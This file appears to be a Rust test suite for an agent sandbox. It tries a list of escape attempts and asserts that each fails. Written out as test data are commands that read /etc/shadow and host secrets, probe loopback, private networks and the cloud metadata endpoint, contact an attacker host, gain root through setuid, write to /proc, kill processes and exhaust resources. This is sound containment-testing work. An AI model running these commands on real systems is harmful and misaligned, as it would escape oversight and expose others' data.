//! What an agent gone astray may try, and how it is seen that it did not work.

use std::net::TcpListener;

use crate::{
    amounts::{fill_disk, fork_bomb, hog_memory},
    host::{Host, sh},
};
use futures::{FutureExt, future::BoxFuture};

pub(crate) type Outcome = Result<(), String>;

/// One line of the threat model.
pub(crate) struct Attempt {
    pub(crate) name: &'static str,
    pub(crate) run: for<'a> fn(&'a Host) -> BoxFuture<'a, Outcome>,
}

macro_rules! attempts {
    ($($name:literal => $run:ident,)*) => {
        pub(crate) const ATTEMPTS: &[Attempt] = &[$(Attempt { name: $name, run: |host| $run(host).boxed() }),*];
    };
}

attempts! {
    "read the host's files" => read_host_files,
    "see other sprites' processes" => see_processes,
    "see other sprites' files" => see_files,
    "reach the host's loopback" => reach_loopback,
    "reach private networks and metadata" => reach_private,
    "look up names against policy" => look_up_names,
    "escape by symlink" => escape_by_symlink,
    "gain privileges by setuid" => setuid,
    "make namespaces" => make_namespaces,
    "trace or kill the init" => trace_init,
    "kill the host" => kill_host,
    "write to /proc and /sys" => write_proc,
    "make device nodes" => device_nodes,
    "call the kernel's dangerous parts" => dangerous_calls,
    "type into a terminal" => type_into_terminal,
    "share memory with others" => share_memory,
    "fork bomb" => fork_bomb,
    "hog memory" => hog_memory,
    "fill the disk" => fill_disk,
}

pub(crate) fn expect(holds: bool, why: impl FnOnce() -> String) -> Outcome {
    if holds { Ok(()) } else { Err(why()) }
}

/// A script whose every line is an attempt; it says `GOT n` for each that worked.
async fn none_works(host: &Host, lines: &[String]) -> Outcome {
    for line in lines {
        let script = format!("if {{ {line} ; }} >/tmp/out 2>&1; then echo GOT; cat /tmp/out; fi");
        let (_, said) = sh(&host.attacker, &script).await;
        expect(!said.contains("GOT"), || format!("{line} worked: {said}"))?;
    }
    Ok(())
}

/// A Python program; 0 is success.
pub(crate) fn python(program: &str) -> String {
    format!("python3 -c '{program}'")
}

async fn read_host_files(host: &Host) -> Outcome {
    let secret = host.data.path().join("roost.toml");
    let secret = secret.display();
    let files = [
        format!("cat {secret}"),
        format!("cat /proc/1/root{secret}"),
        format!("cat /.host{secret}"),
        format!("cat /proc/{}/environ", host.pid()),
        "cat /etc/shadow".into(),
        "ls /root/.ssh".into(),
        "cat /home/sprite/../../../../etc/shadow".into(),
        "ls /boot".into(),
        "test -e /sys/kernel".into(),
        "grep -q attacker /etc/machine-id".into(),
    ];
    none_works(host, &files).await?;
    let found = host.attacker.read(&format!("{secret}")).await;
    expect(found.is_err(), || "the file API read it".into())
}

async fn see_processes(host: &Host) -> Outcome {
    let (_, _) = sh(&host.victim, "sleep 1000.4242 >/dev/null 2>&1 & disown").await;
    let (_, said) = sh(
        &host.attacker,
        "cat /proc/[0-9]*/cmdline | tr '\\0' ' '; ls /proc | grep -c '^[0-9]'",
    )
    .await;
    expect(!said.contains("1000.4242") && !said.contains("--listen"), || {
        said.clone()
    })
}

async fn see_files(host: &Host) -> Outcome {
    host.victim
        .write("secret", "of the victim", None)
        .await
        .map_err(|error| error.to_string())?;
    let root = host.data.path().join("host/sprite-host/sprites");
    let lines = [
        format!("ls {}", root.display()),
        "grep -rq 'of the victim' /home /tmp /var /run /dev/shm".into(),
        "ls /home/../../victim".into(),
    ];
    none_works(host, &lines).await
}

async fn reach_loopback(host: &Host) -> Outcome {
    // Stands for the edge's database, or anything else that trusts the machine it is on.
    let database = TcpListener::bind("127.0.0.1:0").map_err(|error| error.to_string())?;
    let port = database.local_addr().map_err(|error| error.to_string())?.port();
    let mut lines = Vec::new();
    for port in [port, host.port] {
        for name in [
            "127.0.0.1",
            "localhost",
            "[::1]",
            "0.0.0.0",
            "[::ffff:127.0.0.1]",
            "127.1",
        ] {
            lines.push(format!(
                "timeout 5 bash -c 'echo > /dev/tcp/{}/{port}'",
                name.trim_matches(['[', ']'])
            ));
            lines.push(through_proxy(&format!("{name}:{port}")));
        }
    }
    allow_everything(host).await?;
    none_works(host, &lines).await?;
    database
        .set_nonblocking(true)
        .map_err(|error| error.to_string())?;
    expect(database.accept().is_err(), || "somebody connected".into())
}

async fn reach_private(host: &Host) -> Outcome {
    allow_everything(host).await?;
    let lines: Vec<String> = [
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "10.0.0.1:80",
        "172.16.0.1:443",
        "192.168.0.1:80",
        "100.100.100.200:80",
        "[::ffff:169.254.169.254]:80",
        "0xa9fea9fe:80",
        "2852039166:80",
        "[fe80::1]:80",
    ]
    .into_iter()
    .map(through_proxy)
    .collect();
    none_works(host, &lines).await?;
    none_works(
        host,
        &["timeout 5 bash -c 'echo > /dev/tcp/169.254.169.254/80'".into()],
    )
    .await
}

async fn look_up_names(host: &Host) -> Outcome {
    strict(host).await?;
    let mut lines = vec![
        "getent hosts secret.example.com".to_owned(),
        through_proxy("secret.attacker.example:443"),
        python("import socket; socket.getaddrinfo(\"secret.example.com\", 80)"),
    ];
    for resolver in ["8.8.8.8", "127.0.0.53"] {
        let program = format!(
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); \
             s.sendto(bytes(12), (\"{resolver}\", 53)); s.recv(10)"
        );
        lines.push(python(&program));
    }
    none_works(host, &lines).await?;
    let (_, said) = sh(
        &host.attacker,
        "curl -sS -x http://127.0.0.1:3128 https://secret.attacker.example 2>&1",
    )
    .await;
    expect(said.contains("403"), || {
        format!("a refused name must be said to be refused: {said}")
    })
}

async fn escape_by_symlink(host: &Host) -> Outcome {
    let secret = host.data.path().join("roost.toml");
    let links = format!(
        "ln -sfn {} link; ln -sfn / all; ln -sfn ../../../../../.. up; ln -sfn /proc/1/root root",
        secret.display()
    );
    sh(&host.attacker, &links).await;
    for path in [
        "link",
        &format!("all{}", secret.display()),
        &format!("up{}", secret.display()),
        "root/etc/shadow",
        "all/etc/shadow",
    ] {
        let read = host.attacker.read(path).await;
        let told =
            read.is_ok_and(|content| content.starts_with(b"[sprites]") || content.starts_with(b"root:"));
        expect(!told, || format!("{path} was read"))?;
        let written = host.attacker.write(path, "overwritten", None).await;
        let harmed = !std::fs::read_to_string(&secret).is_ok_and(|text| text.starts_with("[sprites]"));
        expect(!harmed, || format!("{path} was written: {written:?}"))?;
    }
    let through = format!("grep -q sprites all{}", secret.display());
    none_works(host, &["grep -q sprites link".into(), through]).await
}

async fn setuid(host: &Host) -> Outcome {
    let lines = [
        "cp /bin/bash b && chmod 4755 b && ./b -p -c 'test $(id -u) = 0'".to_owned(),
        "su -c true".into(),
        "sudo -n true".into(),
        python("import os; os.setuid(0)"),
        python("import os; os.chown(\"/tmp\", 0, 0)"),
    ];
    none_works(host, &lines).await?;
    let (_, said) = sh(
        &host.attacker,
        "grep -E 'NoNewPrivs|CapEff|CapBnd|CapPrm|CapAmb' /proc/self/status",
    )
    .await;
    let none = said.matches("0000000000000000").count() == 4 && said.contains("NoNewPrivs:\t1");
    expect(none, || said.clone())
}

async fn make_namespaces(host: &Host) -> Outcome {
    let lines = [
        "unshare -U true".to_owned(),
        "unshare -r -m true".into(),
        "unshare -n true".into(),
        "mount -t tmpfs none /tmp".into(),
        "chroot / true".into(),
        "nsenter -t 1 -m true".into(),
        python("import ctypes; exit(ctypes.CDLL(None).unshare(0x10000000))"),
        // clone3, whose flags no filter sees
        python(
            "import ctypes; exit(0 if ctypes.CDLL(None, use_errno=True).syscall(435, bytes(88), 88) >= 0 else 1)",
        ),
    ];
    none_works(host, &lines).await
}

async fn trace_init(host: &Host) -> Outcome {
    let lines = [
        python("import ctypes; exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0))"),
        "cat /proc/1/environ".to_owned(),
        "head -c1 /proc/1/mem".into(),
        "ls -l /proc/1/fd/".into(),
        "strings /proc/1/maps | grep -q roost".into(),
    ];
    none_works(host, &lines).await?;
    sh(&host.attacker, "kill -9 1; kill -STOP 1; kill -TERM 1").await;
    let (exit, said) = sh(&host.attacker, "echo still here").await;
    expect(exit == 0, || said.clone())
}

async fn kill_host(host: &Host) -> Outcome {
    let (_, before) = sh(&host.victim, "sleep 1000.77 >/dev/null 2>&1 & disown; echo $!").await;
    let pids: Vec<String> = std::fs::read_dir("/proc")
        .map_err(|error| error.to_string())?
        .flatten()
        .filter_map(|entry| entry.file_name().into_string().ok())
        .filter(|name| name.parse::<u32>().is_ok_and(|pid| pid > 1000))
        .collect();
    sh(
        &host.attacker,
        &format!("kill -9 {} {}", host.pid(), pids.join(" ")),
    )
    .await;
    sh(&host.attacker, "kill -9 -1").await;
    expect(host.is_well().await, || "the host does not answer".into())?;
    let (exit, said) = sh(&host.victim, &format!("kill -0 {}", before.trim())).await;
    expect(exit == 0, || format!("the victim's process is gone: {said}"))
}

async fn write_proc(host: &Host) -> Outcome {
    let lines = [
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern".to_owned(),
        "echo b > /proc/sysrq-trigger".into(),
        "echo 0 > /proc/sys/kernel/randomize_va_space".into(),
        "test -s /proc/kcore && head -c1 /proc/kcore | grep -q .".into(),
        "dmesg".into(),
        "echo 1 > /sys/kernel/x".into(),
        "echo -1000 > /proc/self/oom_score_adj".into(),
        "touch /usr/bin/x".into(),
        "touch /etc/x".into(),
        "touch /x".into(),
    ];
    none_works(host, &lines).await
}

async fn device_nodes(host: &Host) -> Outcome {
    let lines = [
        "mknod disk b 8 0".to_owned(),
        "mknod memory c 1 1".into(),
        "ls /dev/sda /dev/vda /dev/mem /dev/kvm /dev/fuse /dev/net/tun 2>/dev/null | grep -q .".into(),
        "losetup -f".into(),
    ];
    none_works(host, &lines).await
}

async fn dangerous_calls(host: &Host) -> Outcome {
    // By number on x86-64; elsewhere these are other calls, and the filter is the same list by name.
    let calls = [
        ("bpf", 321),
        ("keyctl", 250),
        ("add_key", 248),
        ("perf_event_open", 298),
        ("io_uring_setup", 425),
        ("userfaultfd", 323),
        ("kexec_load", 246),
        ("init_module", 175),
        ("open_by_handle_at", 304),
        ("mount", 165),
        ("setns", 308),
        ("pivot_root", 155),
        ("swapon", 167),
        ("reboot", 169),
        ("settimeofday", 164),
        ("acct", 163),
        ("iopl", 172),
        ("quotactl", 179),
        ("open_tree", 428),
        ("fsopen", 430),
        ("syslog", 103),
    ];
    if !cfg!(target_arch = "x86_64") {
        crate::report("NOT RUN: calls by number, on this architecture");
        return Ok(());
    }
    for (name, number) in calls {
        let program = format!(
            "import ctypes, sys; lib = ctypes.CDLL(None, use_errno=True); r = lib.syscall({number}, 0, 0, 0, 0, 0); \
             sys.exit(0 if r == -1 and ctypes.get_errno() == 1 else 9)"
        );
        let (exit, said) = sh(&host.attacker, &python(&program)).await;
        expect(exit == 0, || {
            format!("{name} is not refused as such ({exit}): {said}")
        })?;
    }
    let families = [
        "AF_PACKET, socket.SOCK_RAW",
        "AF_VSOCK, socket.SOCK_STREAM",
        "AF_ALG, socket.SOCK_SEQPACKET",
    ];
    let lines: Vec<String> = families
        .iter()
        .map(|family| python(&format!("import socket; socket.socket(socket.{family})")))
        .collect();
    none_works(host, &lines).await
}

async fn type_into_terminal(host: &Host) -> Outcome {
    let program = "import fcntl, os; fcntl.ioctl(os.open(\"/dev/tty\", os.O_RDWR), 0x5412, b\"x\")";
    let script = format!(
        "script -qec \"{}\" /dev/null",
        python(program).replace('"', "\\\"")
    );
    let (_, said) = sh(&host.attacker, &script).await;
    expect(said.contains("PermissionError"), || said.clone())
}

async fn share_memory(host: &Host) -> Outcome {
    let (_, made) = sh(&host.victim, "ipcmk -M 4096; touch /dev/shm/victim").await;
    let (_, said) = sh(&host.attacker, "ipcs -m; ls /dev/shm").await;
    let id = made.split_whitespace().last().unwrap_or_default().to_owned();
    let seen = said
        .lines()
        .any(|line| line.split_whitespace().nth(1) == Some(id.as_str()));
    expect(!seen && !said.contains("victim"), || said.clone())
}

/// A request for a tunnel to somewhere, through the sprite's own proxy; succeeds if it is granted.
fn through_proxy(target: &str) -> String {
    format!(
        "timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf \"CONNECT {target} HTTP/1.1\\r\\n\\r\\n\" >&3; \
         head -1 <&3 | grep -q 200'"
    )
}

async fn allow_everything(host: &Host) -> Outcome {
    host.policy("attacker", r#"{"rules": [{"domain": "*", "action": "allow"}]}"#)
        .await
}

async fn strict(host: &Host) -> Outcome {
    host.policy("attacker", r#"{"rules": [{"include": "defaults"}]}"#)
        .await
}
